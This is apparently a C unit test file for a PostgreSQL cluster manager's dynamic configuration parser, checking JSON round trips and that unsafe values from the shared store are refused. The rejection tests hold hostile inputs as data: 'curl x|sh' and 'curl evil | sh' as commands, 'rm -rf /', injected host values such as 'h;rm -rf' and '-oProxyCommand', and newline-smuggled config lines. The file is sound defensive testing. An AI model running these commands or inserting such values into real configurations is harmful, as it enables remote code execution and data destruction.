/*
 * test_dcs.c - the dynamic configuration (config key): parsing, validation that
 * leaves the current settings untouched, and the JSON round trip.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "dcs.h"
#include "lease.h"

static struct pgw_dcs base(void)
{
	struct pgw_dcs d;

	pgw_dcs_defaults(&d);
	return d;
}

static const char *param(const struct pgw_dcs *d, const char *name)
{
	for (size_t i = 0; i < d->pg_parameters.n; i++)
		if (strcmp(d->pg_parameters.items[i].name, name) == 0)
			return d->pg_parameters.items[i].value;
	return NULL;
}

static void test_round_trip(void **state)
{
	struct pgw_dcs b = base(), in, out;
	char err[256], *json;

	(void)state;
	assert_true(pgw_dcs_from_json("{\"postgresql\":{\"parameters\":{\"work_mem\":\"8MB\","
	                              "\"max_connections\":50,\"hot_standby\":true}}}",
	                              &b, PGW_SAFETY_MARGIN_S, &in, err, sizeof(err)));
	json = pgw_dcs_to_json(&in);
	assert_non_null(json);
	assert_true(pgw_dcs_from_json(json, &b, PGW_SAFETY_MARGIN_S, &out, err, sizeof(err)));
	assert_false(pgw_dcs_params_differ(&in, &out));
	assert_string_equal(param(&out, "work_mem"), "8MB");
	assert_string_equal(param(&out, "max_connections"), "50");
	assert_string_equal(param(&out, "hot_standby"), "true");
	assert_int_equal(out.ttl, 30);
	free(json);
	pgw_dcs_free(&in);
	pgw_dcs_free(&out);
}

static void test_partial_keeps_base(void **state)
{
	struct pgw_dcs b = base(), out;
	char err[256];

	(void)state;
	assert_true(pgw_dcs_from_json("{\"loop_wait\":5,\"postgresql\":{\"use_slots\":false}}", &b,
	                              PGW_SAFETY_MARGIN_S, &out, err, sizeof(err)));
	assert_int_equal(out.loop_wait, 5);
	assert_int_equal(out.ttl, 30);
	assert_int_equal(out.retry_timeout, 10);
	assert_false(out.use_slots);
	assert_true(out.use_pg_rewind);
	assert_int_equal(out.pg_parameters.n, 0);
	assert_false(out.check_timeline);
	assert_int_equal(out.max_timelines_history, 0);
	pgw_dcs_free(&out);
}

/* issue 15: check_timeline and max_timelines_history through the config key. */
static void test_timeline_keys(void **state)
{
	struct pgw_dcs b = base(), in, out;
	char err[256], *json;

	(void)state;
	json = pgw_dcs_to_json(&b);
	assert_null(strstr(json, "check_timeline")); /* defaults are not written */
	assert_null(strstr(json, "max_timelines_history"));
	free(json);
	assert_true(pgw_dcs_from_json("{\"check_timeline\":true,\"max_timelines_history\":3}", &b,
	                              PGW_SAFETY_MARGIN_S, &in, err, sizeof(err)));
	assert_true(in.check_timeline);
	assert_int_equal(in.max_timelines_history, 3);
	json = pgw_dcs_to_json(&in);
	assert_non_null(strstr(json, "\"check_timeline\":true"));
	assert_non_null(strstr(json, "\"max_timelines_history\":3"));
	assert_true(pgw_dcs_from_json(json, &b, PGW_SAFETY_MARGIN_S, &out, err, sizeof(err)));
	assert_true(out.check_timeline);
	assert_int_equal(out.max_timelines_history, 3);
	free(json);
	pgw_dcs_free(&out);
	/* null keeps the base, as Patroni's removal of a key does */
	assert_true(pgw_dcs_from_json("{\"check_timeline\":null}", &in, PGW_SAFETY_MARGIN_S, &out,
	                              err, sizeof(err)));
	assert_true(out.check_timeline);
	pgw_dcs_free(&out);
	pgw_dcs_free(&in);
}

/* Bad input changes nothing: false, a message naming the key, *out untouched. */
static void test_rejected(void **state)
{
	static const struct {
		const char *json, *word;
	} bad[] = {
	    {"not json", "not a JSON object"},
	    {"[1,2]", "not a JSON object"},
	    {"{\"ttl\":5}", "ttl (5)"},
	    {"{\"ttl\":\"30\"}", "ttl"},
	    {"{\"loop_wait\":0}", "loop_wait"},
	    {"{\"retry_timeout\":-1}", "retry_timeout"},
	    {"{\"maximum_lag_on_failover\":1.5}", "maximum_lag_on_failover"},
	    {"{\"postgresql\":[]}", "postgresql"},
	    /* issue 15: hostile values refuse the key, never crash */
	    {"{\"check_timeline\":\"yes\"}", "config key check_timeline: expected true or false"},
	    {"{\"check_timeline\":1}", "check_timeline"},
	    {"{\"max_timelines_history\":-1}", "max_timelines_history: expected an integer from 0"},
	    {"{\"max_timelines_history\":99999999999}", "max_timelines_history"},
	    {"{\"max_timelines_history\":\"5\"}", "max_timelines_history"},
	    {"{\"max_timelines_history\":[1]}", "max_timelines_history"},
	    {"{\"postgresql\":{\"use_slots\":\"no\"}}", "use_slots"},
	    {"{\"postgresql\":{\"parameters\":[]}}", "parameters"},
	    {"{\"postgresql\":{\"parameters\":{\"a\":{\"b\":1}}}}", "parameters.a"},
	    /* ARCHITECTURE.md section 7 (issue 11, items 2 and 4): what runs a command or
	     * loads code comes from the local file only; what postgresql.conf cannot hold
	     * is refused here, before any node tries to write it */
	    {"{\"postgresql\":{\"parameters\":{\"archive_command\":\"curl x|sh\"}}}",
	     "archive_command: runs a command or loads code"},
	    {"{\"postgresql\":{\"parameters\":{\"Shared_Preload_Libraries\":\"evil\"}}}",
	     "local configuration file only"},
	    {"{\"postgresql\":{\"parameters\":{\"include_dir\":\"/tmp\"}}}", "include_dir"},
	    {"{\"postgresql\":{\"parameters\":{\"work_mem\":\"1MB\\nrestore_command = 'x'\"}}}",
	     "work_mem: the value contains a line break"},
	    {"{\"postgresql\":{\"parameters\":{\"work_mem\":\"1MB\\u0000x\"}}}", "NUL byte"},
	    {"{\"postgresql\":{\"parameters\":{\"x = 1\\ninclude\":\"1\"}}}",
	     "not a parameter name"},
	};
	struct pgw_dcs b = base(), out;
	char err[256];

	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		memset(&out, 0x5a, sizeof(out));
		err[0] = '\0';
		assert_false(pgw_dcs_from_json(bad[i].json, &b, PGW_SAFETY_MARGIN_S, &out, err,
		                               sizeof(err)));
		if (!strstr(err, bad[i].word))
			fail_msg("%s: error \"%s\" lacks \"%s\"", bad[i].json, err, bad[i].word);
		assert_int_equal(out.ttl, 0x5a5a5a5a);
	}
	assert_false(pgw_dcs_from_json(NULL, &b, PGW_SAFETY_MARGIN_S, &out, err, sizeof(err)));
	/* the timing rule uses this node's watchdog.safety_margin, not the default */
	assert_true(pgw_dcs_from_json("{\"ttl\":10,\"loop_wait\":2,\"retry_timeout\":3}", &b, 5,
	                              &out, err, sizeof(err)));
	pgw_dcs_free(&out);
	assert_false(pgw_dcs_from_json("{\"ttl\":10,\"loop_wait\":2,\"retry_timeout\":3}", &b, 10,
	                               &out, err, sizeof(err)));
	assert_non_null(strstr(err, "safety margin 10 s"));
}

/* standby_cluster in the config key: parsed strictly, absent = removed (standby.h) */
static void test_standby_cluster(void **state)
{
	static const struct {
		const char *json, *word;
	} bad[] = {
	    {"{\"standby_cluster\":[]}", "standby_cluster: expected a map"},
	    {"{\"standby_cluster\":{\"port\":5432}}", "needs host"},
	    {"{\"standby_cluster\":{\"host\":\"h;rm -rf\"}}", "standby_cluster.host"},
	    {"{\"standby_cluster\":{\"host\":\"-oProxyCommand\"}}", "standby_cluster.host"},
	    {"{\"standby_cluster\":{\"host\":\"/tmp\"}}", "standby_cluster.host"},
	    {"{\"standby_cluster\":{\"host\":\"a,b\"}}", "standby_cluster.host"},
	    {"{\"standby_cluster\":{\"host\":\"\"}}", "standby_cluster.host"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"port\":0}}", "standby_cluster.port"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"port\":65536}}", "standby_cluster.port"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"port\":\"54x\"}}", "standby_cluster.port"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"port\":5.5}}", "standby_cluster.port"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"primary_slot_name\":\"Bad-Slot\"}}",
	     "primary_slot_name"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"create_replica_methods\":\"basebackup\"}}",
	     "create_replica_methods"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"create_replica_methods\":[\"../x\"]}}",
	     "create_replica_methods"},
	    {"{\"standby_cluster\":{\"restore_command\":\"cp a b\\nx\"}}", "restore_command"},
	    {"{\"standby_cluster\":{\"restore_command\":7}}", "restore_command"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"recovery_min_apply_delay\":\"1 year\"}}",
	     "recovery_min_apply_delay"},
	    {"{\"standby_cluster\":{\"host\":\"h\",\"hots\":\"x\"}}", "hots: unknown key"},
	};
	struct pgw_dcs b = base(), out, again;
	char err[256], *json;

	(void)state;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		memset(&out, 0x5a, sizeof(out));
		err[0] = '\0';
		assert_false(pgw_dcs_from_json(bad[i].json, &b, PGW_SAFETY_MARGIN_S, &out, err,
		                               sizeof(err)));
		if (!strstr(err, bad[i].word))
			fail_msg("%s: error \"%s\" lacks \"%s\"", bad[i].json, err, bad[i].word);
		assert_int_equal(out.ttl, 0x5a5a5a5a);
	}
	assert_true(pgw_dcs_from_json(
	    "{\"standby_cluster\":{\"host\":\"10.1.2.3\",\"port\":\"5433\","
	    "\"primary_slot_name\":\"standby_b\",\"create_replica_methods\":[\"basebackup\"],"
	    "\"restore_command\":\"cp /a/%f %p\",\"archive_cleanup_command\":\"x %r\","
	    "\"recovery_min_apply_delay\":\"5min\"}}",
	    &b, PGW_SAFETY_MARGIN_S, &out, err, sizeof(err)));
	assert_true(out.standby.enabled);
	assert_string_equal(out.standby.host, "10.1.2.3");
	assert_int_equal(out.standby.port, 5433);
	assert_string_equal(out.standby.primary_slot_name, "standby_b");
	assert_int_equal(out.standby.nmethods, 1);
	assert_string_equal(out.standby.methods[0], "basebackup");
	assert_string_equal(out.standby.restore_command, "cp /a/%f %p");
	assert_string_equal(out.standby.recovery_min_apply_delay, "5min");
	json = pgw_dcs_to_json(&out);
	assert_non_null(strstr(json, "\"standby_cluster\""));
	assert_true(pgw_dcs_from_json(json, &b, PGW_SAFETY_MARGIN_S, &again, err, sizeof(err)));
	assert_true(pgw_standby_same(&out.standby, &again.standby));
	free(json);
	pgw_dcs_free(&again);

	/* the key without the section: removed, whatever the base (the file) said */
	assert_true(
	    pgw_dcs_from_json("{\"ttl\":30}", &out, PGW_SAFETY_MARGIN_S, &again, err, sizeof(err)));
	assert_false(again.standby.enabled);
	assert_true(pgw_dcs_from_json("{\"standby_cluster\":null}", &out, PGW_SAFETY_MARGIN_S,
	                              &again, err, sizeof(err)));
	assert_false(again.standby.enabled);
	/* an IPv6 address, a delay in ms, the default port */
	assert_true(pgw_dcs_from_json("{\"standby_cluster\":{\"host\":\"fd00::1\","
	                              "\"recovery_min_apply_delay\":60000}}",
	                              &b, PGW_SAFETY_MARGIN_S, &again, err, sizeof(err)));
	assert_int_equal(again.standby.port, 5432);
	assert_string_equal(again.standby.recovery_min_apply_delay, "60000");
	pgw_dcs_free(&out);
	pgw_dcs_free(&again);
}

/* Section 7: the host that gets the replication password and the commands come from the
 * file; etcd says whether the cluster is a standby cluster and the harmless settings. */
static void test_standby_effective(void **state)
{
	struct pgw_standby_cluster local, dyn, eff;
	char why[256];

	(void)state;
	memset(&local, 0, sizeof(local));
	local.enabled = true;
	snprintf(local.host, sizeof(local.host), "10.1.2.3");
	local.port = 5433;
	snprintf(local.restore_command, sizeof(local.restore_command), "cp /arch/%%f %%p");

	dyn = local;
	snprintf(dyn.primary_slot_name, sizeof(dyn.primary_slot_name), "slot_b");
	pgw_standby_effective(&dyn, &local, &eff, why, sizeof(why));
	assert_true(eff.enabled);
	assert_string_equal(eff.host, "10.1.2.3");
	assert_string_equal(eff.primary_slot_name, "slot_b");
	assert_string_equal(why, "");

	/* etcd points elsewhere and brings its own commands: refused, the file's kept */
	snprintf(dyn.host, sizeof(dyn.host), "evil.example");
	dyn.port = 5432;
	snprintf(dyn.restore_command, sizeof(dyn.restore_command), "curl evil | sh");
	snprintf(dyn.archive_cleanup_command, sizeof(dyn.archive_cleanup_command), "rm -rf /");
	pgw_standby_effective(&dyn, &local, &eff, why, sizeof(why));
	assert_string_equal(eff.host, "10.1.2.3");
	assert_int_equal(eff.port, 5433);
	assert_string_equal(eff.restore_command, "cp /arch/%f %p");
	assert_string_equal(eff.archive_cleanup_command, "");
	assert_non_null(strstr(why, "following the file's"));
	assert_non_null(strstr(why, "not run"));

	/* no section in the file: a standby cluster without a remote to follow */
	memset(&local, 0, sizeof(local));
	local.port = 5432;
	pgw_standby_effective(&dyn, &local, &eff, why, sizeof(why));
	assert_true(eff.enabled);
	assert_string_equal(eff.host, "");
	assert_string_equal(eff.restore_command, "");
	assert_non_null(strstr(why, "following no remote primary"));

	/* removed from etcd: not a standby cluster, whatever the file says */
	dyn.enabled = false;
	pgw_standby_effective(&dyn, &local, &eff, why, sizeof(why));
	assert_false(eff.enabled);
}

static void test_copy_and_differ(void **state)
{
	struct pgw_dcs b = base(), a, c;
	char err[256];

	(void)state;
	assert_true(pgw_dcs_from_json("{\"postgresql\":{\"parameters\":{\"work_mem\":\"8MB\"}}}",
	                              &b, PGW_SAFETY_MARGIN_S, &a, err, sizeof(err)));
	assert_true(pgw_dcs_copy(&c, &a));
	assert_false(pgw_dcs_params_differ(&a, &c));
	free(c.pg_parameters.items[0].value);
	c.pg_parameters.items[0].value = strdup("16MB");
	assert_true(pgw_dcs_params_differ(&a, &c));
	assert_true(pgw_dcs_params_differ(&a, &b));
	pgw_dcs_free(&a);
	pgw_dcs_free(&c);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_round_trip),      cmocka_unit_test(test_partial_keeps_base),
	    cmocka_unit_test(test_rejected),        cmocka_unit_test(test_copy_and_differ),
	    cmocka_unit_test(test_standby_cluster), cmocka_unit_test(test_standby_effective),
	    cmocka_unit_test(test_timeline_keys),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
